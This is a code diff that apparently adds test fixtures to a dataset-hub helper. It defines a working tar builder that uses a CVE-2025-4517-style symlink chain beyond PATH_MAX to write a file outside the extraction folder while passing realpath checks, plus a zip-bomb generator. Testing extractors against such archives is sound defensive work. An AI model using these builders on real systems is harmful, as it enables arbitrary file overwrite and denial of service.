@@ -130,3 +130,48 @@ def populate(hub) -> None:
     archive, meta = ava_files()
     hub.add(DATASETS_REPO, "ava.tgz", archive)
     hub.add(META_REPO, "meta_info_AVADataset.csv", meta)
+
+
+# ------------------------------------------------------------------------------------------ hostile archives
+def symlink_chain_escape_tar(victim: str, payload_name: str, payload: bytes, levels_up: int, prefix: str = "") -> bytes:
+    """A tar in the CVE-2025-4517 pattern: symlinks whose resolved path outgrows PATH_MAX, then one that escapes.
+
+    Folders with 247-character names are nested sixteen deep, each reachable through a one-letter symlink
+    (``a`` → ``ddd…``, ``ddd…/b`` → ``ddd…``, …), so ``a/b/…/p`` really resolves to a path of ~4000
+    characters. A link ``a/b/…/p/lll…`` → ``../`` × 16 leads back to the top; beyond PATH_MAX
+    ``os.path.realpath`` stops resolving and treats the rest lexically, so a last link ``escape`` →
+    ``a/b/…/p/lll…/`` + ``../`` × ``levels_up`` + ``victim`` looks as if it stayed inside while the kernel
+    follows it ``levels_up`` folders above the folder holding it. ``escape/<payload_name>`` then writes there.
+    Every member name starts with ``prefix`` (for example ``CSIQ/``, to pass a dataset's layout check).
+    """
+    component, steps = "d" * 247, "abcdefghijklmnop"
+    members, path = [], prefix
+    for step in steps:
+        folder = tarfile.TarInfo(f"{path}{component}")
+        folder.type = tarfile.DIRTYPE
+        link = tarfile.TarInfo(f"{path}{step}")
+        link.type, link.linkname = tarfile.SYMTYPE, component
+        members += [folder, link]
+        path = f"{path}{component}/"
+    chain = "/".join(steps)
+    long_link = tarfile.TarInfo(f"{prefix}{chain}/{'l' * 254}")
+    long_link.type, long_link.linkname = tarfile.SYMTYPE, "../" * len(steps)
+    escape = tarfile.TarInfo(f"{prefix}escape")
+    escape.type, escape.linkname = tarfile.SYMTYPE, f"{chain}/{'l' * 254}/{'../' * levels_up}{victim}"
+    written = tarfile.TarInfo(f"{prefix}escape/{payload_name}")
+    written.mode = 0o644
+    return tar_with([*members, long_link, escape, written], {written.name: payload})
+
+
+def zip_bomb(name: str, size: int) -> bytes:
+    """A zip with one deflated member of ``size`` zero bytes (about a thousandth of that compressed)."""
+    buffer = io.BytesIO()
+    info = zipfile.ZipInfo(name)
+    info.compress_type = zipfile.ZIP_DEFLATED
+    with zipfile.ZipFile(buffer, "w") as zf:
+        with zf.open(info, "w", force_zip64=True) as member:
+            chunk = bytes(1 << 20)
+            for _ in range(size // len(chunk)):
+                member.write(chunk)
+            member.write(bytes(size % len(chunk)))
+    return buffer.getvalue()
